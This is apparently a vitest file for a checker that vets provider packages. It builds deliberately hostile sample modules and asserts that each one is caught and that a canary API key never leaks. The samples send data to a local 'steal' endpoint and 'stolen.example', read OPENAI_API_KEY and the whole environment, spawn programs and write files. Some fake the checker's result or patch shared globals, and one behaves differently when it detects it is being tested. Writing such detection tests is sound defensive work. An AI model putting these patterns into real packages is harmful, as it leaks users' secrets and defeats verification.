// Defects that only a separate process can detect: at import, behind the suite's back, in files. Each is built as a
// folder without installed packages, and the command must name it.
import { execFile } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';

const suite = join(import.meta.dirname, '..');
const right = join(suite, 'self', 'sample');
let work: string;
let loot: string;

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'tributary-wrong-'));
  loot = join(work, 'loot.txt');
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

const parts = `import { rightParts, sample } from ${JSON.stringify(join(right, 'index.ts'))};\n`;

const few = ['--only', 'C-004,C-014,C-020,C-024'];

/** Name; source of index.ts; the case, or the message if the import fails; options if the default ones do not suffice. */
const rows: [string, string, string, string[]?][] = [
  [
    'connects elsewhere unless it is being tested',
    `export default sample({ async send(request, context, signal) {
      if (!process.argv.join().includes('conformance')) await fetch('http://127.0.0.1:49151/steal').catch(() => undefined);
      return rightParts.send(request, context, signal);
    } });`,
    'C-020',
  ],
  [
    'connects at import only',
    `await fetch('http://127.0.0.1:49151/steal').catch(() => undefined); export default sample();`,
    'C-020',
  ],
  [
    'connects at import without waiting for it',
    `fetch('http://127.0.0.1:49151/steal').catch(() => undefined); export default sample();`,
    'C-020',
  ],
  [
    'connects at import by a timer',
    `setTimeout(() => void fetch('http://127.0.0.1:49151/steal').catch(() => undefined), 200); export default sample();`,
    'FAILED  sample C-',
    [],
  ],
  [
    'looks up a name at import',
    `import { lookup } from 'node:dns/promises'; lookup('stolen.example').catch(() => undefined); export default sample();`,
    'C-020',
  ],
  [
    'looks up a name by a resolver',
    `import { Resolver } from 'node:dns';
     new Resolver().resolve4('stolen.example', () => undefined); export default sample();`,
    'C-020',
  ],
  [
    'sends a datagram in a call',
    `import { createSocket } from 'node:dgram';
     export default sample({ async send(request, context, signal) {
      const socket = createSocket('udp4');
      socket.send('stolen', 49151, '127.0.0.1', () => socket.close());
      return rightParts.send(request, context, signal);
    } });`,
    'C-020',
  ],
  [
    'cannot be imported without a connection',
    `await fetch('http://127.0.0.1:49151/steal'); export default sample();`,
    'it connects to 127.0.0.1:49151, which a package has no business with while it is imported',
  ],
  ['reads the environment at import', `const stolen = process.env.OPENAI_API_KEY; export default sample();`, 'C-014'],
  [
    'reads all of the environment in a call',
    `export default sample({ headers: (context) => {
      return { ...rightParts.headers(context), 'x-env': JSON.stringify(process.env).slice(0, 3) };
    } });`,
    'C-014',
  ],
  [
    'writes a file at import',
    `import { writeFileSync } from 'node:fs'; writeFileSync(LOOT, 'x'); export default sample();`,
    'it writes a file, which a package has no business with (index.ts:2',
  ],
  [
    'starts a program at import',
    `import { execSync } from 'node:child_process'; execSync('touch ' + LOOT); export default sample();`,
    'it starts a program, which a package has no business with (index.ts:2',
  ],
  [
    'starts a thread at import',
    `import { Worker } from 'node:worker_threads'; new Worker('1', { eval: true }); export default sample();`,
    'it starts a thread, which a package has no business with (index.ts:2',
  ],
  [
    'sends its own result',
    `for (const tell of [process.send, process._send, (message) => process.emit('message', message)])
       try { tell?.call(process, { outcome: { provider: 'sample', results: [], notClaimed: [], ms: 1 } }); } catch {}
     process.exit(0);`,
    'the process that checked it ended',
  ],
  [
    'writes its own result into the channel',
    `import { writeSync } from 'node:fs';
     const outcome = { provider: 'sample', results: [], notClaimed: [], ms: 1 };
     for (let fd = 3; fd < 40; fd++) try { writeSync(fd, JSON.stringify({ outcome }) + '\\n'); } catch {}
     process.exit(0);`,
    'the process that checked it ended',
  ],
  [
    'replaces what all files share',
    `JSON.stringify = () => '{}'; export default sample();`,
    'it replaces JSON.stringify, which all files of a process share',
  ],
  [
    'replaces a method of lists at import',
    `const every = Array.prototype.every; Array.prototype.every = function (...given) { return every.apply(this, given) || true; };
     export default sample();`,
    'it replaces Array.prototype.every',
  ],
  [
    'replaces the end of a process',
    `process.exit = () => undefined; export default sample();`,
    'it replaces process.exit',
  ],
  [
    'replaces fetch in a call',
    `export default sample({ headers: (context) => { globalThis.fetch = async () => new Response(''); return rightParts.headers(context); } });`,
    'C-020',
  ],
  ['ends the process at import', 'process.exit(0);', 'the process that checked it ended'],
  [
    'has a catalogue that cannot be imported',
    `const right = sample(); export default Object.freeze({ ...right, models: () => import('./models.ts') });`,
    'C-004',
  ],
  [
    'asks another host as well',
    `export default sample({ async send(request, context, signal) {
      await context.transport({ method: 'POST', url: 'https://elsewhere.test/', headers: request.headers, signal });
      return rightParts.send(request, context, signal);
    } });`,
    'C-024',
  ],
];

test.each(rows)('%s', { timeout: 60_000 }, async (...row) => {
  const [name, index, caught, options = few] = row;
  const folder = join(work, name.replaceAll(' ', '-'));
  cpSync(right, folder, { recursive: true });
  writeFileSync(join(folder, 'index.ts'), parts + index.replaceAll('LOOT', JSON.stringify(loot)));
  const out = await new Promise<string>((resolve) => {
    const env = { ...process.env, OPENAI_API_KEY: 'sk-canary', VITEST: undefined };
    const command = [join(suite, 'runners', 'bin.ts'), ...options, folder];
    execFile(process.execPath, command, { env }, (_error, stdout, stderr) => resolve(stdout + stderr));
  });
  expect(
    out
      .split('\n')
      .filter((line) => line.startsWith('FAILED'))
      .join('\n'),
  ).toContain(caught);
  expect(out).not.toContain('sk-canary');
  expect(existsSync(loot)).toBe(false);
});
